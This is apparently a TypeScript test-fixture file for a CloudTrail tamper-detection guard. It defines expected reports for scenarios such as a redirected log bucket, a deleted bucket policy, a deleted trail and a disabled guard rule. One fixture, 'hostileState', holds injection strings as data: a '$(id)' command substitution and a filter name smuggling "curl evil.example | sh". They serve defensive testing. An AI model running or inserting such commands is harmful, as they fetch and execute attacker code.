import type { Step, StepResult } from '../domain/step.ts';
import type { ReportedCall, ReportedDrift, TrailReport } from '../domain/telling/report.ts';
import { stopLogging, trail } from './test-parts.ts';
import { denial, restored } from './test-trail-reports.ts';

/** Reports about trails whose settings, or what they depend on, were changed. */

const step = (call: Step['call'], input: Step['input'], path: Step['paths'][number]): Step => ({
  call,
  input,
  region: trail.homeRegion,
  trailArn: trail.arn,
  paths: [path],
});

const taken = (one: Step): StepResult => ({
  ...one,
  at: Date.parse('2026-11-20T21:14:09.100Z'),
  result: 'done',
});

/** One call that weakened something, and the drift that shows it. */
function weakened(call: Partial<ReportedCall>, drift: ReportedDrift): TrailReport {
  const full = { ...stopLogging, ...call };
  const { techniqueId, severity, done, eventId } = full;
  const { fate: _, ...bare } = drift;
  return {
    ...restored,
    at: '2026-11-20T21:14:10.000Z',
    severity,
    calls: [full],
    findings: [
      {
        techniqueId: techniqueId ?? '',
        severity,
        done,
        evidence: drift.evidence ?? '',
        drift: bare,
        eventId,
      },
    ],
    drifts: [drift],
    dark: null,
    weakened: { from: full.at, until: '2026-11-20T21:14:09.612Z', forMs: 4612 },
  };
}

const redirected: TrailReport = {
  ...weakened(
    {
      eventName: 'UpdateTrail',
      techniqueId: 'cloudtrail.bucket-redirected',
      done: 'pointed the trail at another S3 bucket',
      record: { requestParameters: { name: 'main', s3BucketName: 'totally-fine-bucket' } },
    },
    {
      path: 'trail.S3BucketName',
      expected: 'acme-trail-logs',
      actual: 'totally-fine-bucket',
      class: 'weaker',
      fate: 'put-back',
    },
  ),
  steps: [
    taken(step('UpdateTrail', { Name: trail.arn, S3BucketName: 'acme-trail-logs' }, 'trail.S3BucketName')),
  ],
  lost: ['Files delivered meanwhile: they lie in the other bucket, in its owner’s hands.'],
};

const policy = JSON.stringify({
  Version: '2012-10-17',
  Statement: ['AWSCloudTrailAclCheck', 'AWSCloudTrailWrite'].map((Sid) => ({
    Sid,
    Effect: 'Allow',
    Principal: { Service: 'cloudtrail.amazonaws.com' },
    Action: 's3:PutObject',
    Resource: 'arn:aws:s3:::acme-trail-logs/AWSLogs/111122223333/*',
  })),
});

const isOpen = { from: stopLogging.at, until: null, forMs: null };

const policyRemoved: TrailReport = {
  ...weakened(
    {
      eventName: 'DeleteBucketPolicy',
      techniqueId: 's3.bucket-policy-deleted',
      done: 'deleted the policy of the log bucket',
      trailAsRecorded: null,
      record: { requestParameters: { bucketName: 'acme-trail-logs' } },
    },
    {
      path: 'bucket.policy',
      expected: JSON.parse(policy),
      actual: null,
      class: 'weaker',
      evidence: 'the bucket has no policy any more: CloudTrail may not write to it',
      fate: 'left',
    },
  ),
  outcome: 'not-restorable',
  steps: [],
  plan: [
    step(
      'PutBucketPolicy',
      { Bucket: 'acme-trail-logs', ExpectedBucketOwner: '111122223333', Policy: policy },
      'bucket.policy',
    ),
  ],
  weakened: isOpen,
  lost: ['Nothing when it is put back within 30 days: CloudTrail delivers afterwards what it kept.'],
  toDo: ['Put the approved bucket policy back.'],
  notDone: [
    {
      what: 'PutBucketPolicy was not called',
      why: 'RestoreScope trail does not let the guard do it: a person must',
    },
  ],
};

const bucket = { Bucket: 'acme-trail-logs', ExpectedBucketOwner: '111122223333' };

const unprotected: TrailReport = {
  ...policyRemoved,
  severity: 'high',
  calls: [
    {
      ...stopLogging,
      eventName: 'PutBucketVersioning',
      techniqueId: 's3.versioning-weakened',
      severity: 'high',
      done: 'weakened the versioning of the log bucket',
      trailAsRecorded: null,
    },
  ],
  findings: [
    {
      techniqueId: 's3.versioning-weakened',
      severity: 'high',
      done: 'weakened the versioning of the log bucket',
      evidence: 'Status is "Suspended", must be "Enabled"',
      drift: null,
      eventId: stopLogging.eventId,
    },
    {
      techniqueId: 's3.public-access-block-weakened',
      severity: 'high',
      done: 'weakened the public access block of the log bucket',
      evidence: 'BlockPublicPolicy is false, must be true',
      drift: null,
      eventId: null,
    },
    {
      techniqueId: 'cloudtrail.read-only-events-only',
      severity: 'critical',
      done: 'turned off write management events',
      evidence: 'write management events are not recorded',
      drift: null,
      eventId: null,
    },
  ],
  outcome: 'partly-restored',
  drifts: [
    {
      path: 'bucket.versioning.Status',
      expected: 'Enabled',
      actual: 'Suspended',
      class: 'weaker',
      fate: 'left',
    },
    {
      path: 'bucket.publicAccessBlock.BlockPublicPolicy',
      expected: true,
      actual: false,
      class: 'weaker',
      fate: 'left',
    },
    {
      path: 'eventSelectors.management.write',
      expected: true,
      actual: false,
      class: 'weaker',
      evidence: 'write management events are not recorded',
      fate: 'put-back',
    },
    {
      path: 'logGroup.subscriptionFilters.to-siem',
      expected: null,
      actual: {
        filterName: 'to-siem',
        destinationArn: 'arn:aws:logs:eu-central-1:444455556666:destination:x',
      },
      class: 'different',
      fate: 'told',
    },
  ],
  steps: [
    taken(
      step(
        'PutEventSelectors',
        {
          TrailName: trail.arn,
          EventSelectors: [{ ReadWriteType: 'All', IncludeManagementEvents: true, DataResources: [] }],
        },
        'eventSelectors.management.write',
      ),
    ),
  ],
  plan: [
    step(
      'PutBucketVersioning',
      { ...bucket, VersioningConfiguration: { Status: 'Enabled' } },
      'bucket.versioning.Status',
    ),
    step(
      'PutPublicAccessBlock',
      {
        ...bucket,
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: true,
          IgnorePublicAcls: true,
          BlockPublicPolicy: true,
          RestrictPublicBuckets: true,
        },
      },
      'bucket.publicAccessBlock.BlockPublicPolicy',
    ),
  ],
  unread: [{ part: 'key.rotation', reason: 'AccessDeniedException: not authorized' }],
  lost: ['Files that were overwritten or deleted meanwhile.'],
  toDo: [
    'Turn versioning on again. MFA delete takes the root user and a device.',
    'Turn all four settings on again, for the bucket and for the account.',
  ],
  notDone: [
    {
      what: 'PutBucketVersioning was not called',
      why: 'RestoreScope trail does not let the guard do it: a person must',
    },
  ],
};

const creation = {
  Name: 'main',
  S3BucketName: 'acme-trail-logs',
  IsMultiRegionTrail: true,
  IncludeGlobalServiceEvents: true,
  EnableLogFileValidation: true,
};

const recreated: TrailReport = {
  ...weakened(
    {
      eventName: 'DeleteTrail',
      techniqueId: 'cloudtrail.delete-trail',
      done: 'deleted the trail',
      trailAsRecorded: trail.arn,
      record: { requestParameters: { name: trail.arn } },
    },
    {
      path: 'trail',
      expected: 'main',
      actual: null,
      class: 'weaker',
      evidence: 'there is no such trail any more',
      fate: 'put-back',
    },
  ),
  steps: [
    taken(step('CreateTrail', creation, 'trail')),
    taken(
      step(
        'PutEventSelectors',
        { TrailName: trail.arn, AdvancedEventSelectors: [{ FieldSelectors: [] }] },
        'eventSelectors',
      ),
    ),
    taken(step('StartLogging', { Name: trail.arn }, 'status.IsLogging')),
  ],
  dark: { from: stopLogging.at, until: '2026-11-20T21:14:09.612Z', forMs: 4612 },
  weakened: null,
  lost: [
    'Events of that time, and the chain of digest files; management events stay in Event history for 90 days.',
  ],
};

const squatted: TrailReport = {
  ...redirected,
  outcome: 'refused',
  drifts: redirected.drifts.map((drift) => ({ ...drift, fate: 'left' })),
  weakened: isOpen,
  steps: redirected.steps.map((one) => ({
    ...one,
    result: 'refused',
    reason:
      'BucketOwnerNotProven: the bucket acme-trail-logs is not proven to belong to account 111122223333',
  })),
  toDo: [
    'See that the approved bucket is still yours, set it on the trail, and fetch the files from the other one.',
  ],
  notDone: [
    {
      what: 'UpdateTrail was refused',
      why: 'BucketOwnerNotProven: the bucket acme-trail-logs is not proven to belong to account 111122223333, and may be somebody else’s: no answer',
    },
  ],
};

const sweptDrift: TrailReport = {
  ...redirected,
  at: '2026-11-20T21:18:31.000Z',
  weakened: null,
  calls: [],
  principals: [],
  findings: redirected.findings.map((finding) => ({ ...finding, eventId: null })),
};

const FLAGS = [
  'IsMultiRegionTrail',
  'IncludeGlobalServiceEvents',
  'LogFileValidationEnabled',
  'RecursiveLogging',
] as const;
const KEYS = ['SnsTopicARN', 'KmsKeyId', 'CloudWatchLogsLogGroupArn', 'CloudWatchLogsRoleArn'] as const;

const everythingOff: TrailReport = {
  ...redirected,
  calls: [
    {
      ...stopLogging,
      eventName: 'UpdateTrail',
      techniqueId: 'cloudtrail.everything-off-at-once',
      done: 'turned off most settings of the trail in one call',
    },
  ],
  drifts: [
    ...redirected.drifts,
    ...FLAGS.map((flag) => ({
      path: `trail.${flag}` as const,
      expected: true,
      actual: false,
      class: 'weaker' as const,
      fate: 'put-back' as const,
    })),
    ...KEYS.map((field) => ({
      path: `trail.${field}` as const,
      expected: 'arn:aws:sns:eu-central-1:111122223333:trails',
      actual: null,
      class: 'weaker' as const,
      fate: 'put-back' as const,
    })),
  ],
};

const elsewhereCall = (call: Partial<ReportedCall>, toDo: string): TrailReport => {
  const full = { ...stopLogging, ...call, trailAsRecorded: null };
  const { techniqueId, severity, done, eventId, eventName } = full;
  return {
    ...restored,
    incidentId: 'unknown-trail-20261120T211405Z',
    trail: null,
    outcome: 'not-restorable',
    severity,
    calls: [full],
    findings: [
      {
        techniqueId: techniqueId ?? '',
        severity,
        done,
        evidence: `${eventName} succeeded`,
        drift: null,
        eventId,
      },
    ],
    baseline: null,
    drifts: [],
    steps: [],
    dark: null,
    lost: [],
    toDo: [toDo],
    notDone: [{ what: `Someone ${done}`, why: 'it is a part of the guard itself' }],
  };
};

const guardDisabled = elsewhereCall(
  {
    eventName: 'DisableRule',
    techniqueId: 'events.guard-rule-disabled',
    severity: 'high',
    done: 'disabled a rule of the guard',
    record: { requestParameters: { name: 'trailkeeper-ApiCalls-1A2B3C' } },
  },
  'Enable the rule again, or update the guard’s stack.',
);

const delegationEnded = elsewhereCall(
  {
    eventName: 'DeregisterOrganizationDelegatedAdmin',
    techniqueId: 'cloudtrail.delegated-admin-deregistered',
    severity: 'high',
    done: 'deregistered the delegated administrator of CloudTrail',
    record: { requestParameters: { delegatedAdminAccountId: '444455556666' } },
  },
  'From the management account, register the delegated administrator of CloudTrail again.',
);

/** The names in it were given by somebody who was let write once, and wanted the guard to write them again. */
const hostileState: TrailReport = {
  ...unprotected,
  drifts: [
    {
      path: 'tags.$(id)\nTrail',
      expected: 'https://evil.example',
      actual: null,
      class: 'weaker',
      fate: 'left',
    },
    {
      path: 'logGroup.subscriptionFilters.a’; curl evil.example | sh #',
      expected: null,
      actual: { filterName: 'x' },
      class: 'weaker',
      evidence: 'arn:aws:iam::444455556666:user/https://evil.example may read it',
      fate: 'left',
    },
  ],
  plan: [
    step(
      'DeleteSubscriptionFilter',
      { logGroupName: '/aws/trails', filterName: "a'; curl evil.example | sh #" },
      'logGroup.subscriptionFilters.x',
    ),
  ],
  steps: [
    {
      ...taken(
        step(
          'AddTags',
          { ResourceId: trail.arn, TagsList: [{ Key: '$(id)', Value: 'https://evil.example' }] },
          'tags',
        ),
      ),
      result: 'refused',
      reason: denial,
    },
  ],
};

/** By the name of their golden file. */
export const driftReports = {
  'bucket-redirected': redirected,
  'bucket-redirected-unseen': sweptDrift,
  'bucket-squatted': squatted,
  'bucket-policy-beyond-scope': policyRemoved,
  'partly-put-back': unprotected,
  'trail-created-again': recreated,
  'everything-off-at-once': everythingOff,
  'guard-attacked': guardDisabled,
  'account-attacked': delegationEnded,
  'hostile-state': hostileState,
} as const;
